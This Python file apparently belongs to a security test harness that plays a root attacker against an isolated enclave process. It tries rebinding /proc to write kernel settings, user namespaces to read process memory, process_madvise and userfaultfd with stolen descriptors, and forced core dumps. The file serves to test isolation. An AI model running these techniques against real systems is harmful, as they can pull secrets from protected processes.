"""Ways around root's restrictions: other views of the settings, namespaces, faults, core files."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import resource
import signal
import struct
import tempfile
from pathlib import Path

from assurance.root.attacker.attacks import Attack, Outcome
from assurance.root.attacker.linux import (
    MS_BIND,
    MS_REMOUNT,
    NEW_MOUNTS,
    NEW_USER,
    SYS_PIDFD_GETFD,
    SYS_PROCESS_MADVISE,
    SYS_USERFAULTFD,
    ProcMem,
    checked,
    libc,
    mappings,
    mount,
    name_of,
    syscall,
    unmount,
)
from assurance.root.attacker.reads import judged, memory_of
from assurance.root.attacker.victim import FRAMES, Refused, Victim

_COLD = 20
_UFFDIO_API, _UFFDIO_REGISTER, _UFFD_API = 0xC018AA3F, 0xC020AA00, 0xAA
_MISSING = 1


def proc_again(victim: Victim) -> Outcome:
    """A second /proc, or the first one bound again, in which settings can be written to."""
    del victim
    folder = Path(tempfile.mkdtemp(prefix="root-proc-"))
    refused = []
    try:
        for source, kind, flags in (("proc", "proc", 0), ("/proc", "", MS_BIND)):
            try:
                mount(source, folder, kind, flags)
            except OSError as error:
                refused.append(name_of(error))
                continue
            try:
                if flags:
                    mount("none", folder, "", MS_REMOUNT | MS_BIND)
                # Opened, not written to: the right is what counts.
                os.close(os.open(folder / "sys/kernel/core_pattern", os.O_WRONLY))
            except OSError as error:
                refused.append(name_of(error))
            else:
                return Outcome(True, f"settings can be written to by {'another /proc' if kind else 'a bind mount'}")
            finally:
                unmount(folder)
    finally:
        folder.rmdir()
    return Outcome(False, ", ".join(refused))


def user_namespace(victim: Victim) -> Outcome:
    """A user namespace of one's own, in which all rights are back; whether the enclave's memory opens from there."""
    victim.show_known()
    pid = victim.enclave()
    checked(libc.unshare(NEW_USER | NEW_MOUNTS))
    try:
        out = judged(victim, memory_of(ProcMem(pid), pid), "read from the namespace", enough=1)
    except OSError as error:
        return Outcome(False, f"a namespace was given; /proc/PID/mem from there: {name_of(error)}")
    return out


def madvise(victim: Victim) -> Outcome:
    """`process_madvise` on the enclave: pages pushed out of memory at root's choice, a clock for what it uses."""
    pid = victim.enclave()
    area = next(area for area in mappings(pid) if area.writable)
    span = (ctypes.c_size_t * 2)(area.start, mmap.PAGESIZE)
    handle = os.pidfd_open(pid)
    taken = syscall(SYS_PROCESS_MADVISE, handle, span, 1, _COLD, 0)
    return Outcome(taken == mmap.PAGESIZE, f"{taken} bytes marked cold")


def userfaultfd(victim: Victim) -> Outcome:
    """Whether faults of the device on its frames can be held up, by a descriptor of one's own on the same memory."""
    handle = os.pidfd_open(victim.supervisor)
    taken = _frames_of(handle)
    own = syscall(SYS_USERFAULTFD, os.O_CLOEXEC)
    request = ctypes.create_string_buffer(struct.pack("<QQQ", _UFFD_API, 0, 0), 24)
    checked(libc.ioctl(own, ctypes.c_ulong(_UFFDIO_API), request))
    size = os.fstat(taken).st_size
    with mmap.mmap(taken, size) as mapped:
        at = ctypes.addressof(ctypes.c_char.from_buffer(mapped))
        request = ctypes.create_string_buffer(struct.pack("<QQQQ", at, size, _MISSING, 0), 32)
        checked(libc.ioctl(own, ctypes.c_ulong(_UFFDIO_REGISTER), request))
        os.close(own)  # what is registered is our own mapping: the device's faults pass it by
    try:
        victim.patiently(victim.known, seconds=3)
    except Refused as error:
        return Outcome(True, f"the device stalls: {error}")
    return Outcome(False, "only one's own faults are held up, the device answers")


def _frames_of(handle: int) -> int:
    for number in range(64):
        with contextlib.suppress(OSError):
            taken = syscall(SYS_PIDFD_GETFD, handle, number, 0)
            if str(Path(f"/proc/self/fd/{taken}").readlink()) == FRAMES:
                return taken
            os.close(taken)
    raise PermissionError(1, "no descriptor of the frames is to be had")


def core_file(victim: Victim) -> Outcome:
    """Raises the enclave's limit on core files and has it crash."""
    victim.show_known()
    pid = victim.enclave()
    try:
        resource.prlimit(pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        limit = "raised"
    except OSError as error:
        limit = f"not raised ({name_of(error)})"
    pattern = (Path("/proc/sys/kernel/core_pattern")).read_text().strip()
    places = {Path("/"), Path.cwd()}
    with contextlib.suppress(OSError):
        places.add(Path(f"/proc/{pid}/cwd").readlink())
    before = {path for place in places for path in place.glob("core*")}
    os.kill(pid, signal.SIGABRT)
    victim.enclave(pid)
    new = {path for place in places for path in place.glob("core*") if path.is_file()} - before
    parts = [path.read_bytes() for path in new]
    for path in new:
        path.unlink()
    out = judged(victim, parts, f"{len(new)} core files, limit {limit}, pattern {pattern!r}")
    victim.patiently(victim.known)
    return out


QUIET = (
    Attack("madvise", "kernel", madvise, everywhere=True),
    Attack("userfaultfd", "kernel", userfaultfd),
    Attack("proc_again", "settings", proc_again, everywhere=True),
    Attack("user_namespace", "settings", user_namespace),
)
LOUD = (Attack("core_file", "settings", core_file, seconds=30),)
